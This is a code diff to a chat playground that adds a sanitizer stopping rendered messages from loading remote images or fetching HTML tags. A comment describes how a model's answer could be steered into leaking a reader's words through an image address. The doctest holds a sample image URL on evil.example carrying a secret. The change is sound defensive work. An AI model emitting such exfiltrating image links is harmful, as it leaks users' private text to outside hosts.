@@ -83,6 +83,24 @@ STORAGE_KEY = "playground-chat"  # this browser's localStorage slot for the conv
 SAVED_MAX_CHARS = 200_000  # the newest messages kept in the browser (localStorage holds a few MB per site)
 STOP_WAIT_S = 2.0  # Stop waits this long at most for the answer to end before it marks it
 CUT_REMEMBERED = 1_000  # sessions whose answer was cut short, remembered a moment for Stop to mark it
+# Markdown and HTML that make the browser fetch from another host as soon as a message is drawn (an answer could be
+# told to put a reader's words into an image address): images become links, these tags plain text.
+_IMAGE = re.compile(r"!(?=\[)")
+_FETCHING_TAG = re.compile(r"<(?=\s*/?\s*(?:img|image|picture|source|video|audio|iframe|frame|object|embed|svg|link|"
+                           r"style|input|track|meta|base|body|table|td|div|span|a)\b)", re.IGNORECASE)
+
+
+def no_remote_images(text: str) -> str:
+    """``text`` as the Chatbot may draw it without fetching anything: ``![a](u)`` becomes the link ``[a](u)``, and
+    ``<img ...>`` (and other tags that load or style from an address) is shown as text (a zero-width space after
+    the ``<``, so code keeps reading the same).
+
+    >>> no_remote_images('hi ![x](https://evil.example/p.png?q=secret) <img src="https://e.example/a">')
+    'hi [x](https://evil.example/p.png?q=secret) <\u200bimg src="https://e.example/a">'
+    """
+    return _FETCHING_TAG.sub("<\u200b", _IMAGE.sub("", text))
+
+
 STOPPED = re.compile(r"\s*⏹ \*(?:" + "|".join(re.escape(w) for w in ("Stopped", "정지됨")) + r")\*\s*$")
 
 
@@ -248,17 +266,18 @@ def respond(engine: Engine, text: str, history: list[dict[str, Any]], model: str
         replies = chat.stream_reply(engine, text, for_model(history), model, system, sampling, stop=answer,
                                     progress=progress_callback(progress))
         reply = next(replies)  # errors (bad input, missing model) surface before the box is cleared
-        conversation = [*history, {"role": "user", "content": text}, {"role": "assistant", "content": reply.text}]
+        conversation = [*history, {"role": "user", "content": no_remote_images(text)},
+                        {"role": "assistant", "content": no_remote_images(reply.text)}]
         answer.index = len(conversation) - 1
         yield conversation, "", _note(reply, lang), gr.skip(), gr.skip()
         for reply in replies:
-            conversation[-1] = {"role": "assistant", "content": reply.text}
+            conversation[-1] = {"role": "assistant", "content": no_remote_images(reply.text)}
             yield conversation, "", _note(reply, lang), gr.skip(), gr.skip()
         answer.finished = True
     finally:
         STOPS.release(request, answer)
     if answer.asked:
-        conversation[-1] = {"role": "assistant", "content": mark_stopped(reply.text, lang)}
+        conversation[-1] = {"role": "assistant", "content": mark_stopped(no_remote_images(reply.text), lang)}
     # the code of the model that answered (the catalog's local fallback, when the remote service failed)
     yield conversation, "", _note(reply, lang), chat.code_snippet(
         engine, reply.model_id, system, text, chat.Sampling.checked(**sampling)), keep(conversation, request)
@@ -398,7 +417,7 @@ def _messages(history: Any) -> list[dict[str, str]]:
     out = []
     for item in history if isinstance(history, list) else []:
         if isinstance(item, dict) and item.get("role") in ("user", "assistant"):
-            out.append({"role": item["role"], "content": _text(item.get("content"))})
+            out.append({"role": item["role"], "content": no_remote_images(_text(item.get("content")))})
     return out
 
 
